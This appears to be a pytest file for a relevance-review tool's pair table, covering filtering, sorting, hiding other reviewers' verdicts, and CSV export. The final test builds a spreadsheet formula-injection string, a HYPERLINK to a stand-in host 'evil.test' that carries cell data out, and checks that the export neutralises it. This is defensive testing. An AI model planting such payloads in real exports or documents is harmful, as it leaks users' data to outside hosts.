"""The table of all pairs: its filters and orders against a plain frame, others' verdicts hidden, the download."""

import io

import numpy as np
import pandas as pd
import pytest

from nearmiss.review import Event
from nearmiss.selection import STATUSES
from nearmiss.session import pair_table as pairs
from nearmiss.session.pair_table import PairFilter
from nearmiss.workspace import open_workspace

NAMES = ["query_id", "query", "doc_id", "document", "status", "verdict", "score", "p_relevant", "margin"]


@pytest.fixture
def work(mined, tmp_path):
    return open_workspace(mined, reviews=f"sqlite:///{tmp_path / 'reviews.db'}")


def judge(work, pair, verdict, reviewer):
    known = {"query_id": pair[0], "doc_id": pair[1], "verdict": verdict, "reviewer": reviewer}
    work.append([Event(**known, client_id=f"{reviewer} {pair}", client_seq=1, decided_at=1.0)])


def kept(work, place=0):
    return work.pair_at(int(np.flatnonzero(work.decision().slot > 0)[place]))


def test_filters_show_what_a_plain_frame_shows(work):
    frame = work.candidates.assign(status=[STATUSES[code] for code in work.decision().status])
    texts = work.run.dataset.documents.set_index("doc_id")["text"].loc[frame["doc_id"]].to_numpy(str)
    asked = {
        PairFilter(): np.ones(len(frame), bool),
        PairFilter(statuses=("kept", "too_close")): frame["status"].isin(["kept", "too_close"]),
        PairFilter(sources=("bm25",), query_id="q03"): frame["bm25_rank"].notna() & frame["query_id"].eq("q03"),
        PairFilter(query_id="no such query"): np.zeros(len(frame), bool),
        PairFilter(verdict="judged"): np.zeros(len(frame), bool),
    }
    for wanted, shown in asked.items():
        assert pairs.in_order(work, wanted).tolist() == np.flatnonzero(shown).tolist()
    found = pairs.in_order(work, PairFilter(text="ChEeSe"))
    assert set(np.flatnonzero(np.char.find(np.char.lower(texts), "cheese") >= 0)) <= set(found.tolist())


@pytest.mark.parametrize("falling", [True, False])
def test_every_column_sorts_all_rows_and_missing_numbers_come_last(work, falling):
    for name in pairs.columns(work):
        rows = pairs.in_order(work, PairFilter(statuses=("kept", "too_close")), name, falling=falling)
        column = pairs.read(work, rows, [name])[name]
        told = column.str.casefold() if name in ("query_id", "query", "doc_id", "document") else column
        if name == "status":
            told = column.str.casefold()
        if name == "verdict":
            continue
        known = told.dropna()
        assert known.index.tolist() == list(range(len(known))), name
        if name != "document":  # cut in the table, and sorted by its beginning
            wanted = known.sort_values(ascending=not falling, kind="stable")
            assert known.tolist() == wanted.tolist(), name


def test_what_others_judged_is_hidden_until_one_judged_the_same_pair(work):
    pair, row = kept(work), work.row_of(kept(work))
    judge(work, pair, "relevant", "bob")
    seen = {
        name: pairs.read(work, np.array([row]), ["status", "verdict"], name).iloc[0].tolist()
        for name in ("", "ana", "bob")
    }
    assert seen == {
        "": ["reviewed_relevant", "relevant"],
        "ana": ["kept", ""],
        "bob": ["reviewed_relevant", "relevant"],
    }
    assert pairs.in_order(work, PairFilter(verdict="judged"), reviewer="ana").tolist() == []
    assert pairs.in_order(work, PairFilter(statuses=("reviewed_relevant",)), reviewer="bob").tolist() == [row]
    judge(work, pair, "not_relevant", "ana")
    assert pairs.in_order(work, PairFilter(verdict="not_relevant"), reviewer="ana").tolist() == [row]
    assert row in pairs.in_order(work, PairFilter(verdict="unjudged"), reviewer="cem").tolist()


def test_another_policy_and_a_new_verdict_are_seen_at_once(work):
    wanted = PairFilter(statuses=("kept",))
    before = pairs.in_order(work, wanted)
    judge(work, kept(work), "relevant", "ana")
    after = pairs.in_order(work, wanted)
    assert set(before) - set(after) == {work.row_of(kept_before) for kept_before in [work.pair_at(int(before[0]))]}


def test_the_download_has_every_row_and_whole_texts_in_the_table_s_order(work, monkeypatch):
    monkeypatch.setattr(pairs, "BLOCK", 7)
    rows = pairs.in_order(work, PairFilter(query_id="q03"), "score")
    read = pd.read_csv(io.BytesIO(pairs.as_csv(work, rows, ["document", "score"])), keep_default_na=False)
    assert read.columns.tolist() == ["query_id", "doc_id", "document", "score"]
    assert list(zip(read["query_id"], read["doc_id"], strict=True)) == [work.pair_at(row) for row in rows.tolist()]
    titles = [f"{title} {text}".strip() for title, text in work.titles(read["doc_id"].tolist())]
    assert read["document"].tolist() == titles
    np.testing.assert_allclose(read["score"], work.table.score[rows], rtol=1e-6)
    texts = pairs.read(work, rows, ["query_id", "doc_id", "query", "document"], opening=None)
    assert set(map(str, texts.dtypes)) == {"str"}  # what is made harmless in the test below
    empty = pairs.as_csv(work, rows[:0], ["score"])
    assert empty == b"query_id,doc_id,score\n"


@pytest.mark.parametrize("sign", pairs.FORMULA)
def test_a_text_that_a_spreadsheet_would_run_is_only_shown_by_it(monkeypatch, sign):
    hostile = f'{sign}HYPERLINK("https://evil.test/?x="&A1)'
    block = pd.DataFrame({"query_id": [hostile, "-1"], "document": ["plain = text", hostile], "score": [-0.5, 1.0]})
    monkeypatch.setattr(pairs, "read", lambda *_: block)
    read = pd.read_csv(io.BytesIO(pairs.as_csv(None, np.arange(2), [])), keep_default_na=False)
    assert read["query_id"].tolist() == ["'" + hostile, "'-1"]
    assert read["document"].tolist() == ["plain = text", "'" + hostile]
    assert read["score"].tolist() == [-0.5, 1.0]
